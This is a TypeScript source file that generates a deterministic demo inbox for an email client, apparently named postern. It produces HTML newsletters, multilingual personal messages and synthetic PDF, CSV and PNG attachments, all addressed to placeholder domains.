    `<tr><td style="background:${accent};color:#fff;padding:20px;font-size:24px">${title}</td></tr>\n` +
    `<tr><td style="padding:20px"><img src="${remoteImage}" width="560" alt="Banner"></td></tr>\n` +
    `<tr><td style="padding:0 20px"><table width="100%">\n${list}\n</table></td></tr>\n` +
    `<tr><td style="padding:20px;color:#888;font-size:12px">You receive this because you subscribed. ` +
    `<a href="https://newsletter.example/unsubscribe?id=8812">Unsubscribe</a></td></tr>\n` +
    `</table>\n<img src="https://tracker.example/open.gif?u=8812" width="1" height="1" alt="">\n</body></html>\n`
  );
}

function newsletter(title: string, accent: string, items: string[], remoteImage: string): () => MimeNode {
  return () => ({
    kind: 'multipart',
    subtype: 'alternative',
    parts: [
      text('text/plain; charset=utf-8', `${title}\n\n${items.map((i) => `* ${i.replace(/<[^>]+>/g, '')}`).join('\n')}\n\nUnsubscribe: https://newsletter.example/unsubscribe?id=8812\n`, 'quoted-printable'),
      text('text/html; charset=utf-8', newsletterHtml(title, accent, items, remoteImage), 'quoted-printable'),
    ],
  });
}

function personal(...paragraphs: string[]): () => MimeNode {
  return () => text('text/plain; charset=utf-8', `${paragraphs.map((p) => wrap(p)).join('\n\n')}\n`, 'quoted-printable');
}

function withAttachments(body: string, files: { type: string; name: string; bytes: () => Buffer }[]): () => MimeNode {
  return () => ({
    kind: 'multipart',
    subtype: 'mixed',
    parts: [text('text/plain; charset=utf-8', `${wrap(body)}\n`, 'quoted-printable'), ...files.map((f) => attachment(f.type, f.name, f.bytes()))],
  });
}

const csv = (): Buffer =>
  utf8('month,revenue,costs\n' + ['Jan', 'Feb', 'Mar', 'Apr', 'May'].map((m, i) => `${m},${41_000 + i * 3_250},${30_500 + i * 1_100}`).join('\n') + '\n');
const chartPng = (): Buffer =>
  makePng(240, 120, (x, y) => (y > 110 - ((x * 7) % 97) ? [52, 120, 246] : [250, 250, 250]));
const invoicePdf = (label: string) => (): Buffer =>
  Buffer.concat([utf8(`%PDF-1.4\n% ${label}\n`), deterministicBytes(`demo/${label}`, 24_000), utf8('\n%%EOF\n')]);

const DEMO_SPECS: DemoSpec[] = [
  { from: ['The Weekly Byte', 'newsletter@weeklybyte.example'], subject: 'The Weekly Byte #112: WebAssembly everywhere', body: newsletter('The Weekly Byte #112', '#1d4ed8', ['<b>WebAssembly</b> components reach 1.0', 'Why your CI is slow (and how to fix it)', 'Interview: maintaining a 20-year-old C library'], 'https://cdn.weeklybyte.example/banner112.png') },
  { from: ['Maya Ortiz', 'maya.ortiz@corp.example'], subject: 'Kick-off agenda for Monday', body: personal('Hi,', 'attached is nothing yet, but here is the agenda for Monday: introductions, scope, milestones, and who owns what. Please add topics you want to cover by Friday.', 'Thanks,\nMaya') },
  { from: ['GitHub', 'noreply@github.example'], subject: '[postern/postern] Pull request #41 opened: Add UIDL cache', body: personal('@kenji opened a pull request in postern/postern:', 'Add UIDL cache so the inbox list survives a reconnect without refetching headers.', '-- \nReply to this email directly or view it on GitHub.') },
  { from: ['Ben Carter', 'ben@example.org'], subject: 'Photos from the weekend', body: withAttachments('Here is the chart you asked about, and a few numbers. The photos are coming in a separate mail because they are big.', [{ type: 'image/png', name: 'chart.png', bytes: chartPng }]) },
  { from: ['Acme Billing', 'billing@acme.example'], subject: 'Your invoice INV-2025-0519 is ready', body: withAttachments('Dear customer, your invoice for May is attached. Payment is due within 14 days.', [{ type: 'application/pdf', name: 'INV-2025-0519.pdf', bytes: invoicePdf('INV-2025-0519') }]) },
  { from: ['Sophie Laurent', 'sophie.laurent@example.fr'], subject: 'Réunion de lundi: ordre du jour', body: personal('Bonjour à tous,', 'voici l\'ordre du jour pour lundi. Merci de confirmer votre présence avant vendredi.', 'Bien à vous,\nSophie') },
  { from: ['Gardening Monthly', 'hello@gardening.example'], subject: 'June in the garden: tomatoes, roses and slugs', body: newsletter('Gardening Monthly — June', '#15803d', ['Staking tomatoes the easy way', 'Roses: when to dead-head', 'Slugs: five humane tricks'], 'https://img.gardening.example/june.jpg') },
  { from: ['Kenji Watanabe', 'kenji@example.jp'], subject: '会議の議事録（5月）', body: personal('皆さん、', '5月の会議の議事録を共有します。次回は6月3日です。', 'よろしくお願いします。\n渡辺') },
  { from: ['Tom Becker', 'tom.becker@example.de'], subject: 'Einladung zum Sommerfest 🎉', body: personal('Hallo zusammen,', 'am 21. Juni feiern wir unser Sommerfest im Hof. Für Getränke ist gesorgt, bringt gern Salate mit!', 'Viele Grüße\nTom') },
  { from: ['Anna Kowalski', 'anna.k@example.com'], subject: 'Re: Budget numbers', body: withAttachments('Updated numbers are in the CSV. Costs went up in April because of the new servers.', [{ type: 'text/csv', name: 'budget-2025.csv', bytes: csv }]) },
  { from: ['Travelwise', 'bookings@travelwise.example'], subject: 'Booking confirmed: Lisbon, 12–15 June', body: newsletter('Your trip to Lisbon', '#0e7490', ['Flight TW 1184, 12 June 07:40', 'Hotel Miradouro, 3 nights', 'Check-in opens 24 hours before departure'], 'https://cdn.travelwise.example/lisbon.jpg') },
  { from: ['Dmitri Volkov', 'dmitri@example.ru'], subject: 'Отчёт за май', body: personal('Привет!', 'Отчёт за май готов, посмотри, пожалуйста, до пятницы.', 'Дмитрий') },
  { from: ['Ben Carter', 'ben@example.org'], subject: 'Holiday photos (big attachment)', body: withAttachments('As promised, the holiday photos. It is a big file, sorry!', [{ type: 'application/zip', name: 'holiday-photos.zip', bytes: () => deterministicBytes('demo/holiday-photos.zip', 6_000_000) }]) },
  { from: ['Security Team', 'security@corp.example'], subject: 'Reminder: rotate your API keys by Friday', body: personal('Hello,', 'as part of the quarterly security audit, please rotate all personal API keys by Friday. The wiki has instructions.', 'Security Team') },
];

const EXTRA_PEOPLE: [string, string][] = [
  ['Maya Ortiz', 'maya.ortiz@corp.example'],
  ['Anna Kowalski', 'anna.k@example.com'],
  ['Liam O\'Brien', 'liam.obrien@example.ie'],
  ['Priya Natarajan', 'priya@example.in'],
  ['Chen Wei', 'chen.wei@example.cn'],
  ['Olu Adeyemi', 'olu@example.ng'],
];

/**
 * About 40 realistic messages for a demo inbox, oldest first, spread over the
 * four weeks before `DEMO_BASE_DATE`: newsletters in HTML, attachments (PDF,
 * CSV, a real PNG), one ~8 MB message and a few non-English subjects.
 */
export function demoMaildrop(): MaildropMessage[] {
  const random = seededRandom(2025);
  const specs: DemoSpec[] = [...DEMO_SPECS];
  while (specs.length < 40) {
    const from = pick(random, EXTRA_PEOPLE);
    const topic = pick(random, TOPICS);
    const subject = pick(random, SUBJECT_FORMS).replace('{t}', topic);
    const paragraphs = Array.from({ length: between(random, 1, 3) }, () => Array.from({ length: between(random, 2, 4) }, () => sentence(random)).join(' '));
    specs.splice(between(random, 0, specs.length), 0, { from, subject, body: personal('Hi,', ...paragraphs, `Cheers,\n${from[0].split(' ')[0] ?? ''}`) });
  }
  const span = 27 * 24 * 60; // minutes
  const step = span / specs.length;
  return specs.map((spec, index) => {
    const minutesBefore = Math.round(span - index * step - random() * step * 0.6);
    const date = new Date(DEMO_BASE_DATE.getTime() - minutesBefore * 60_000);
    const ascii = /^[\x20-\x7e]*$/.test(spec.subject);
    const nameAscii = /^[\x20-\x7e]*$/.test(spec.from[0]);
    const displayName = nameAscii ? (/[,.'()]/.test(spec.from[0]) ? `"${spec.from[0]}"` : spec.from[0]) : encodedWordsB('UTF-8', spec.from[0]);
    return buildMessage(
      {
        name: `demo-${index + 1}`,
        from: `${displayName} <${spec.from[1]}>`,
        fromName: spec.from[0],
        fromAddress: spec.from[1],
        subjectHeader: ascii ? spec.subject : encodedWordsB('UTF-8', spec.subject),
        subject: spec.subject,
        date,
        offsetMinutes: pick(random, [0, 60, 120, -240]),
        to: 'Demo User <demo@postern.test>',
      },
      spec.body(),
    );
  });
}
